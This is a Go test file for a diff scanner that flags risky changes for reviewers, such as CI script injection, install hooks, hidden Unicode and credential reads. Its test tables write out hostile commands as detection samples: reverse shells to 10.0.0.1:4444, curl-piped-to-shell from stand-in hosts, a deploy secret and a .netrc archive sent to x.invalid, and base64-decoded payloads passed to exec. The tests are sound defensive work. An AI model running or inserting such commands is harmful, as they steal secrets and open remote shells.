package attention

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/vetter-dev/vetter/attention/rules"
	"github.com/vetter-dev/vetter/bench"
	"github.com/vetter-dev/vetter/packet"
)

// attentionRow renders an item as "severity kind path:newline title" so a
// table can state everything a vetter would see at once.
func attentionRow(a Item) string {
	return fmt.Sprintf("%s %s %s:%d %s", a.Severity, a.Kind, a.Path, a.NewLine, a.Title)
}

func scanFile(t *testing.T, name string) (*packet.Diff, []Item) {
	t.Helper()
	data, err := os.ReadFile(name)
	if err != nil {
		t.Fatalf("reading %s: %v", name, err)
	}
	return scanDiff(t, name, data)
}

func TestScanAttentionFixtures(t *testing.T) {
	tests := []struct {
		file string
		want []string
	}{
		{"workflow.diff", []string{
			"high execute .github/workflows/ci.yml:13 expands untrusted pull-request text into a command (script injection)",
			"medium ci-file .github/workflows/ci.yml:0 CI workflow changed",
		}},
		// One item for the Makefile and one for its risky line, not one per line.
		{"makefile-curl-sh.diff", []string{
			"high download Makefile:7 downloads and pipes to a shell",
			"medium build-file Makefile:0 Makefile changed",
		}},
		{"conftest.diff", []string{
			"medium test-config tests/conftest.py:0 pytest conftest.py (runs on every pytest) added",
		}},
		{"package-postinstall.diff", []string{
			"medium build-file package.json:0 package.json (scripts run on npm install) changed",
			"medium script package.json:7 npm postinstall script: runs on npm install",
		}},
		{"go-generate.diff", []string{
			"medium go-generate internal/palette/color.go:3 go:generate runs a command on go generate",
		}},
		{"base64-bash.diff", []string{
			"high decode-exec scripts/bootstrap.sh:3 decodes data and pipes it to a shell",
			"medium script scripts/bootstrap.sh:0 shell script added",
		}},
		{"token.diff", []string{
			"medium credential tools/release/notify.py:11 reads a CI token",
			// AKIA...EXAMPLE... is the shape of AWS's documented example key, not a live one.
		}},
		{"bidi.diff", []string{
			"high hidden-unicode internal/auth/check.go:5 bidirectional-control characters reorder what you see (Trojan Source)",
		}},
		// A leading byte-order mark and a joiner inside an emoji are left
		// alone; a zero-width space inside an identifier is not.
		{"zero-width.diff", []string{
			"high hidden-unicode web/strings.go:5 zero-width characters hidden inside code",
		}},
		// Documentation does not run: its install examples are not flagged.
		{"docs-only.diff", nil},
		// Removing a CI check matters, but nothing of it runs any more.
		{"deleted-ci.diff", []string{
			"low ci-file .github/workflows/lint.yml:0 CI workflow deleted",
		}},
		// A replace that points a module at another owner's module (not a
		// local directory) is where its code now comes from.
		{"dependencies.diff", []string{
			"high dependency go.mod:7 replaces example.invalid/lib with a module of another owner (example.invalid/fork)",
			"high dependency requirements-dev.txt:3 points package installs at pkgs.example.invalid",
			"low dependency go.mod:0 Go module requirements changed",
			"low dependency requirements-dev.txt:0 dependency manifest changed",
			"low ci-file tools/old-release.yml:0 CI workflow renamed away",
		}},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			_, items := scanFile(t, filepath.Join("testdata", tt.file))
			var got []string
			for _, a := range items {
				got = append(got, attentionRow(a))
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("Scan(%s):\n got %q\nwant %q", tt.file, got, tt.want)
			}
		})
	}
}

// The sample packet's change touches docs, Go and Python code that neither
// runs in CI nor downloads, executes or names credentials in added lines.
func TestScanAttentionSample(t *testing.T) {
	_, items := scanFile(t, filepath.Join("..", "packet", "sample", "change.diff"))
	if len(items) != 0 {
		var got []string
		for _, a := range items {
			got = append(got, attentionRow(a))
		}
		t.Errorf("sample change.diff: got %q, want nothing", got)
	}
}

// oneLineDiff is a diff adding one line to path.
func oneLineDiff(path, line string) string {
	return fmt.Sprintf("diff --git a/%s b/%s\nindex 1111111..2222222 100644\n--- a/%s\n+++ b/%s\n@@ -1,1 +1,2 @@\n ctx\n+%s\n",
		path, path, path, path, line)
}

func TestScanAttentionLines(t *testing.T) {
	tests := []struct {
		path, line string
		want       string // "severity kind", "" for nothing on the line
	}{
		// download
		{"x.sh", "wget -qO- https://x.invalid/i | sudo bash", "high download"},
		{"x.sh", "bash <(curl -s https://x.invalid/s)", "high download"},
		{"x.ps1", "iex (iwr https://x.invalid/a.ps1)", "high download"},
		{"Dockerfile", "ADD https://x.invalid/tool.tgz /opt/", "medium download"},
		{"x.py", "r = requests.get(url, timeout=5)", "medium download"},
		{"x.go", "resp, err := http.Get(u)", "medium download"},
		{"x.js", "const r = await fetch(url)", "medium download"},
		{"x.sh", "git clone https://x.invalid/repo.git", "medium download"},
		{"x.sh", "pip install -r requirements.txt", "medium download"},
		{"x.sh", "apt-get -y install jq", "medium download"},
		{"x.sh", "go install example.invalid/tool@latest", "medium download"},
		{"x.sh", "curl -fsSLo tool.tgz https://x.invalid/tool.tgz", "medium download"},
		// decode and run
		{"x.py", "exec(base64.b64decode(PAYLOAD))", "high decode-exec"},
		{"x.js", "eval(atob(s))", "high decode-exec"},
		{"x.sh", `python3 -c "import zlib,sys;print(zlib.decompress(sys.stdin.buffer.read()))"`, "high decode-exec"},
		{"x.ps1", "powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "high decode-exec"},
		{"x.sh", "echo aGkK | base64 --decode | sh", "high decode-exec"},
		{"x.sh", "xxd -r -p payload.hex > a.out", "medium decode-exec"},
		{"x.sh", `echo "$KEY_B64" | base64 -d > key.bin`, "medium decode-exec"},
		// execute
		{"x.go", `cmd := exec.Command("git", "status")`, "medium execute"},
		{"x.go", `import "os/exec"`, "medium execute"},
		{"x.py", "subprocess.run(args, check=True)", "medium execute"},
		{"x.js", `require("child_process").execSync(c)`, "medium execute"},
		{"x.py", "os.system(cmd)", "medium execute"},
		{"x.sh", `sh -c "$CMD"`, "medium execute"},
		{"x.sh", "cat setup.txt | bash", "medium execute"},
		{"x.java", "Runtime.getRuntime().exec(cmd);", "medium execute"},
		{"x.py", "exec(code)", "medium execute"},
		{"x.sh", `eval "$(ssh-agent)"`, "medium execute"},
		// network
		{"x.py", "s = socket.socket()", "medium network"},
		{"x.go", `conn, _ := net.Dial("tcp", addr)`, "medium network"},
		{"x.sh", "nc -lvp 4444", "medium network"},
		{"x.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "high network"},
		{"x.sh", "nc -e /bin/sh 10.0.0.1 4444", "high network"},
		// credentials
		// A secret passed to a step as a with:/env: value is how secrets are
		// meant to be used; expanded in run: next to curl it is sent away.
		{".github/workflows/ci.yml", "token: ${{ secrets.DEPLOY_TOKEN }}", "medium credential"},
		{".github/workflows/ci.yml", `run: curl -d "${{ secrets.DEPLOY_TOKEN }}" https://x.invalid`, "high credential"},
		{".github/workflows/ci.yml", "on: pull_request_target", "medium ci-file"},
		{".github/workflows/ci.yml", "permissions: write-all", "high ci-file"},
		{"x.sh", "cat ~/.ssh/id_rsa", "high credential"},
		{"x.sh", "tar czf - $HOME/.netrc | nc x.invalid 9", "high credential"},
		{"x.sh", `curl -H "Authorization: Bearer $T" https://x.invalid`, "medium download"},
		{"x.sh", "printenv > /tmp/e", "high credential"},
		{"key.pem", "-----BEGIN OPENSSH PRIVATE KEY-----", "high credential"},
		{"x.sh", "export NPM_TOKEN=abc", "medium credential"},
		{"x.yml", "run: echo $ACTIONS_RUNTIME_TOKEN", "high credential"},
		{"config.py", `api_key = "abc"`, "medium credential"},
		{"x.go", `deploy := os.Getenv("DEPLOY_SECRET")`, "medium credential"},
		// build-time code
		{"setup.py", `cmdclass={"install": PostInstall},`, "medium build-file"},
		{"x.go", "//go:generate go run ./gen", "medium go-generate"},
		{"package.json", `"preinstall": "sh ./x.sh",`, "medium script"},
		{"package.json", `"preinstall": "curl -s https://x.invalid/a | sh",`, "high script"},
		// not worth a look
		{"x.go", "// evaluate the expression once", ""},
		{"x.go", "if a || b {", ""},
		{"x.py", "token = secrets.token_hex(16)", ""},
		{"x.go", `ra := resp.Header.Get("Retry-After")`, ""},
		{"x.go", "executor := newExecutor()", ""},
		{"x.sh", "echo hash | shasum -a 256", ""},
		{"x.js", "const curly = 1", ""},
		{"x.go", "socketPath := cfg.Path", ""},
		{"x.py", "def connect():", ""},
		{"x.go", `import "net/http"`, ""},
		{"x.go", "func nc(x int) int { return x }", ""},
		{"x.go", "Password string // never logged", ""},
		{"x.py", "env = token_env() | retry_env(args)", ""},
		{"README.md", "curl -fsSL https://x.invalid/i | sh", ""},
		{"notes.txt", "export GITHUB_TOKEN=...", ""},
		{"x.js", "connect()(Component)", ""},
		{"x.json", `"install": "make"`, ""}, // only package.json's scripts run on install
	}
	for _, tt := range tests {
		t.Run(tt.path+" "+tt.line, func(t *testing.T) {
			_, items := scanDiff(t, "the one-line diff", []byte(oneLineDiff(tt.path, tt.line)))
			got := ""
			for _, a := range items {
				if a.Hunk >= 0 {
					if got != "" {
						t.Errorf("more than one item for the line: %q", attentionRow(a))
					}
					got = a.Severity + " " + string(a.Kind)
				}
			}
			if got != tt.want {
				t.Errorf("%s: %q: got %q, want %q", tt.path, tt.line, got, tt.want)
			}
		})
	}
}

func TestScanAttentionPaths(t *testing.T) {
	tests := []struct {
		path, want string // want: "severity kind title" of the file item, "" for none
	}{
		{".github/workflows/release.yaml", "medium ci-file CI workflow changed"},
		{".github/actions/setup/action.yml", "medium ci-file GitHub Action changed"},
		{".gitlab-ci.yml", "medium ci-file GitLab CI config changed"},
		{".circleci/config.yml", "medium ci-file CircleCI config changed"},
		{"Jenkinsfile", "medium ci-file Jenkinsfile changed"},
		{"azure-pipelines.yml", "medium ci-file Azure Pipelines config changed"},
		{".buildkite/pipeline.yml", "medium ci-file Buildkite pipeline changed"},
		{".travis.yml", "medium ci-file Travis CI config changed"},
		{".cirrus.yml", "medium ci-file Cirrus CI config changed"},
		{"buildspec-release.yml", "medium ci-file AWS CodeBuild buildspec changed"},
		{".semaphore/semaphore.yml", "medium ci-file Semaphore pipeline changed"},
		{"codefresh.yml", "medium ci-file Codefresh pipeline changed"},
		{".harness/pipeline.yaml", "medium ci-file Harness pipeline changed"},
		{".tekton/pull-request.yaml", "medium ci-file Tekton pipeline changed"},
		{".builds/alpine.yml", "medium ci-file sourcehut build manifest changed"},
		{".teamcity/settings.kts", "medium ci-file TeamCity Kotlin DSL changed"},
		{"buddy.yml", "medium ci-file Buddy pipeline changed"},
		{"bamboo-specs/bamboo.yml", "medium ci-file Bamboo Specs changed"},
		{".onedev-buildspec.yml", "medium ci-file OneDev build spec changed"},
		{".pipelines/build.yml", "medium ci-file Azure Pipelines config changed"},
		{"ci/release.gitlab-ci.yml", "medium ci-file GitLab CI config changed"},
		{"azure-pipelines-pr.yml", "medium ci-file Azure Pipelines config changed"},
		{".buildkite/hooks/pre-command", "medium ci-file Buildkite agent hook changed"},
		{".buildkite/steps/publish.sh", "medium script shell script changed"},
		{"build/common.mk", "medium build-file Makefile changed"},
		{"GNUmakefile", "medium build-file Makefile changed"},
		{"docker/Dockerfile.dev", "medium build-file Dockerfile changed"},
		{"api.dockerfile", "medium build-file Dockerfile changed"},
		{"Containerfile", "medium build-file Dockerfile changed"},
		{"docker-compose.test.yml", "medium build-file Docker Compose file changed"},
		{"setup.cfg", "medium build-file Python packaging config changed"},
		{"pyproject.toml", "medium build-file Python packaging config changed"},
		{"build.rs", "medium build-file Cargo build script changed"},
		{".pnpmfile.cjs", "medium build-file pnpm hooks (run at every pnpm install) changed"},
		{"src/sitecustomize.py", "medium build-file Python start-up hook (runs at every interpreter start) changed"},
		{"dangerfile.ts", "medium build-file Danger file (runs on every pull request in CI) changed"},
		{"buildSrc/src/main/kotlin/Deps.kt", "medium build-file Gradle build file changed"},
		{"web/vitest.setup.ts", "medium test-config test runner config changed"},
		{"BUILD.bazel", "medium build-file Bazel build file changed"},
		{"WORKSPACE", "medium build-file Bazel build file changed"},
		{"CMakeLists.txt", "medium build-file CMake file changed"},
		{"app/build.gradle", "medium build-file Gradle build file changed"},
		{"pom.xml", "medium build-file Maven POM changed"},
		{".npmrc", "medium build-file package manager config changed"},
		{".pre-commit-config.yaml", "medium build-file pre-commit config changed"},
		{"tox.ini", "medium build-file tox or nox config changed"},
		{"noxfile.py", "medium build-file tox or nox config changed"},
		{".gitattributes", "medium build-file git attributes (filters) changed"},
		{"pytest.ini", "medium test-config test runner config changed"},
		{"jest.config.ts", "medium test-config test runner config changed"},
		{"vitest.config.mjs", "medium test-config test runner config changed"},
		{"karma.conf.js", "medium test-config test runner config changed"},
		{".mocharc.yml", "medium test-config test runner config changed"},
		{"pkg/sub/conftest.py", "medium test-config pytest conftest.py (runs on every pytest) changed"},
		{".husky/pre-commit", "medium script git hook changed"},
		{".githooks/pre-push", "medium script git hook changed"},
		{".envrc", "medium script direnv .envrc (runs on cd) changed"},
		{".vscode/tasks.json", "medium script editor tasks changed"},
		{"tools/run.bash", "medium script shell script changed"},
		{"go.mod", "low dependency Go module requirements changed"},
		{"go.sum", "low dependency Go checksums changed"},
		{"requirements.txt", "low dependency dependency manifest changed"},
		{"Cargo.toml", "low dependency dependency manifest changed"},
		{"package-lock.json", "low dependency lock file changed"},
		{"docs/guide.md", ""},
		{"internal/upload/client.go", ""},
		{"src/makefile_test.py", ""},
		{"notes/Dockerfile-tips.md", ""},
	}
	for _, tt := range tests {
		t.Run(tt.path, func(t *testing.T) {
			d, _ := packet.ParseDiff([]byte(oneLineDiff(tt.path, "x = 1")))
			got := ""
			for _, a := range Scan(d) {
				if a.Hunk < 0 {
					got = a.Severity + " " + string(a.Kind) + " " + a.Title
				}
			}
			if got != tt.want {
				t.Errorf("%s: got %q, want %q", tt.path, got, tt.want)
			}
		})
	}
}

func TestScanAttentionShebangAndMode(t *testing.T) {
	diff := "diff --git a/tools/run b/tools/run\nnew file mode 100644\n--- /dev/null\n+++ b/tools/run\n@@ -0,0 +1,2 @@\n+#!/usr/bin/env python3\n+print('hi')\n" +
		"diff --git a/bin/tool b/bin/tool\nold mode 100644\nnew mode 100755\n" +
		"diff --git a/bin/new b/bin/new\nnew file mode 100755\n--- /dev/null\n+++ b/bin/new\n@@ -0,0 +1 @@\n+data\n"
	_, items := scanDiff(t, "the test's diff", []byte(diff))
	var got []string
	for _, a := range items {
		got = append(got, attentionRow(a)+" "+a.Rule)
	}
	want := []string{
		"medium script tools/run:0 script with a shebang added script",
		"medium script bin/tool:0 file made executable executable-bit",
		"medium script bin/new:0 executable file added executable-bit",
	}
	if !slices.Equal(got, want) {
		t.Errorf("got %q\nwant %q", got, want)
	}
}

func TestScanAttentionHiddenFileName(t *testing.T) {
	name := "docs/readme\u202etxt.md"
	d, _ := packet.ParseDiff([]byte(oneLineDiff(name, "plain text")))
	items := Scan(d)
	checkInvariants(t, d, items)
	if len(items) != 1 || items[0].Kind != rules.KindHiddenUnicode || items[0].Severity != rules.High || items[0].Hunk != -1 {
		t.Fatalf("got %+v, want one high hidden-unicode file item", items)
	}
}

// A file with more risky lines than the cap keeps the most severe ones (a
// Trojan Source line at the very end survives) and sums up the rest.
func TestScanAttentionCapsLinesPerFile(t *testing.T) {
	const n = 60
	var b strings.Builder
	fmt.Fprintf(&b, "diff --git a/Makefile b/Makefile\n--- a/Makefile\n+++ b/Makefile\n@@ -1,1 +1,%d @@\n all:\n", n+1)
	for i := 1; i < n; i++ {
		fmt.Fprintf(&b, "+\tcurl -O https://x.invalid/f%d\n", i)
	}
	b.WriteString("+\techo \"ok\u202e\"\n")
	_, items := scanDiff(t, "the Makefile diff", []byte(b.String()))
	var lines, more, hidden int
	for _, a := range items {
		switch {
		case a.More > 0:
			more++
			if want := fmt.Sprintf("and %d more to look at in this file", n-MaxLinesPerFile); a.Title != want {
				t.Errorf("more item title %q, want %q", a.Title, want)
			}
		case a.Hunk >= 0:
			lines++
		}
		if a.Kind == rules.KindHiddenUnicode {
			hidden++
		}
	}
	if lines != MaxLinesPerFile || more != 1 || hidden != 1 {
		t.Errorf("got %d line items, %d more items, %d hidden; want %d, 1, 1", lines, more, hidden, MaxLinesPerFile)
	}
	if items[0].Kind != rules.KindHiddenUnicode {
		t.Errorf("first item is %q, want the hidden-unicode line", attentionRow(items[0]))
	}
}

func TestScanAttentionKeys(t *testing.T) {
	var all strings.Builder
	names, _ := filepath.Glob(filepath.Join("testdata", "*.diff"))
	for _, n := range names {
		data, err := os.ReadFile(n)
		if err != nil {
			t.Fatal(err)
		}
		all.Write(data)
	}
	text := all.String()
	d1, _ := packet.ParseDiff([]byte(text))
	d2, _ := packet.ParseDiff([]byte(text))
	a1, a2 := Scan(d1), Scan(d2)
	if !slices.Equal(a1, a2) {
		t.Fatal("two scans of the same diff differ")
	}
	seen := map[string]bool{}
	for _, a := range a1 {
		if seen[a.Key] {
			t.Errorf("key %q is not unique", a.Key)
		}
		seen[a.Key] = true
	}

	// Changing the risky line changes its key and its file's key, and no other.
	changed := strings.Replace(text, "install.sh | sh\n+\t@echo", "install2.sh | sh\n+\t@echo", 1)
	if changed == text {
		t.Fatal("fixture text to change not found")
	}
	d3, _ := packet.ParseDiff([]byte(changed))
	a3 := Scan(d3)
	var gone []string
	for _, a := range a1 {
		if !slices.ContainsFunc(a3, func(b Item) bool { return b.Key == a.Key }) {
			gone = append(gone, attentionRow(a))
		}
	}
	want := []string{
		"high download Makefile:7 downloads and pipes to a shell",
		"medium build-file Makefile:0 Makefile changed",
	}
	if !slices.Equal(gone, want) {
		t.Errorf("keys that changed: %q, want %q", gone, want)
	}
}

// checkInvariants is what the decision screen relies on: every item
// points at what it says, items are in order, and whole-file items have no line.
func checkInvariants(t *testing.T, d *packet.Diff, items []Item) {
	t.Helper()
	if !slices.IsSortedFunc(items, compareItems) {
		t.Errorf("items are not in order")
	}
	for _, a := range items {
		if a.File < 0 || a.File >= len(d.Files) {
			t.Fatalf("item %+v: file index out of range", a)
		}
		f := d.Files[a.File]
		if a.Path != f.Path() {
			t.Errorf("item %+v: path is not the file's %q", a, f.Path())
		}
		switch a.Severity {
		case rules.High, rules.Medium, rules.Low:
		default:
			t.Errorf("item %+v: severity %q", a, a.Severity)
		}
		if a.Key == "" || a.Title == "" || a.Kind == "" {
			t.Errorf("item %+v: empty key, title or kind", a)
		}
		if a.Hunk < 0 {
			if a.Line != -1 || a.NewLine != 0 || a.Text != "" {
				t.Errorf("file item %+v has a line", a)
			}
			continue
		}
		if a.Hunk >= len(f.Hunks) || a.Line < 0 || a.Line >= len(f.Hunks[a.Hunk].Lines) {
			t.Fatalf("item %+v: hunk or line index out of range", a)
		}
		l := f.Hunks[a.Hunk].Lines[a.Line]
		if l.Kind != packet.LineAdded || l.Text != a.Text || l.New != a.NewLine {
			t.Errorf("item %+v does not match its line %+v", a, l)
		}
	}
}

func FuzzScanAttention(f *testing.F) {
	names, _ := filepath.Glob(filepath.Join("testdata", "*.diff"))
	corpus, _ := filepath.Glob(filepath.Join("testdata", "corpus", "*", "*.diff"))
	names = append(names, shortSample(corpus)...)
	for _, name := range names {
		data, err := os.ReadFile(name)
		if err != nil {
			f.Fatalf("reading seed %s: %v", name, err)
		}
		f.Add(data)
	}
	f.Add([]byte(oneLineDiff("package.json", `"postinstall": "curl x | sh \u202e"`)))
	f.Add([]byte(oneLineDiff(".github/workflows/\u2066x.yml", "run: ${{ github.head_ref }}")))
	f.Fuzz(func(t *testing.T, data []byte) {
		d, _ := packet.ParseDiff(data)
		checkInvariants(t, d, Scan(d))
	})
}

// bigDiff generates the scale target's change.diff: 1,000 files, 200,000 lines.
func bigDiff(tb testing.TB) []byte {
	tb.Helper()
	dir := tb.TempDir()
	if err := bench.Generate(dir, bench.Spec{Files: 1000, LinesPerFile: 200, Findings: 1}); err != nil {
		tb.Fatalf("generating the big packet in %s: %v", dir, err)
	}
	data, err := os.ReadFile(filepath.Join(dir, "change.diff"))
	if err != nil {
		tb.Fatalf("reading the big change.diff: %v", err)
	}
	return data
}

// hostileDiff is as big, but every added line is risky and every file is a
// Makefile, so every line runs the regexps and every file hits the cap.
func hostileDiff() []byte {
	var b strings.Builder
	for i := range 1000 {
		fmt.Fprintf(&b, "diff --git a/m%d/Makefile b/m%d/Makefile\n--- a/m%d/Makefile\n+++ b/m%d/Makefile\n@@ -1,100 +1,100 @@\n", i, i, i, i)
		for j := range 100 {
			fmt.Fprintf(&b, "-\tcurl -s https://x.invalid/%d | sh\n+\tcurl -s https://x.invalid/%d | sh \u202e $GITHUB_TOKEN\n", j, j)
		}
	}
	return []byte(b.String())
}

// A hostile diff (every line of 1,000 Makefiles a download piped to a
// shell, with hidden text and a token) is capped per file. How long the scan
// of the 200,000-line diff takes is BenchmarkScanAttention's to say, against
// parsing the same diff: a wall-clock bound here failed on a loaded machine
// without telling anything about the code.
func TestScanAttentionHostileDiffIsCapped(t *testing.T) {
	if testing.Short() {
		t.Skip("generates a 200,000-line diff")
	}
	d, _ := packet.ParseDiff(hostileDiff())
	if items := Scan(d); len(items) > 1000*(MaxLinesPerFile+2) {
		t.Errorf("hostile: %d items, want at most %d", len(items), 1000*(MaxLinesPerFile+2))
	}
}

func BenchmarkScanAttention(b *testing.B) {
	for _, bc := range []struct {
		name string
		data []byte
	}{{"generated", bigDiff(b)}, {"hostile", hostileDiff()}} {
		d, _ := packet.ParseDiff(bc.data)
		// The reference: parsing the same diff, which every load does.
		b.Run(bc.name+"/parse", func(b *testing.B) {
			for b.Loop() {
				packet.ParseDiff(bc.data)
			}
		})
		b.Run(bc.name+"/scan", func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Scan(d)
			}
		})
	}
}
